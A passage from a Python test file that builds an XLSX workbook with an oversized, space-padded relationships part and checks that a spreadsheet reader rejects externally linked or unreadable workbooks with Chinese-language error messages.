    padded = rels.replace(b"</Relationships>", b" " * (6 * 1024 * 1024) + b"</Relationships>")
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as target,
    ):
        for info in source.infolist():
            content = padded if info.filename == "xl/_rels/workbook.xml.rels" else source.read(info)
            target.writestr(info.filename, content)
    return out.getvalue()


def test_refuses_a_linked_workbook_even_when_its_relationships_are_too_large_to_read():
    linked = rewrite_zip(
        make_input(data_rows(1)),
        add={
            "xl/externalLinks/externalLink1.xml": b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'
        },
    )

    with pytest.raises(XlsxError, match=r"引用了其他工作簿的数据（外部链接）.*断开链接"):
        read_xlsx_rows(
            _with_oversized_relationships(linked),
            max_rows=10,
            max_bytes=20 * 1024 * 1024,
            expected_header=HEADER,
        )


def test_refuses_a_workbook_whose_relationships_cannot_be_read_for_links():
    data = _with_oversized_relationships(make_input(data_rows(1)))

    with pytest.raises(XlsxError, match=r"已损坏或不是标准的 \.xlsx 文件"):
        read_xlsx_rows(data, max_rows=10, max_bytes=20 * 1024 * 1024, expected_header=HEADER)
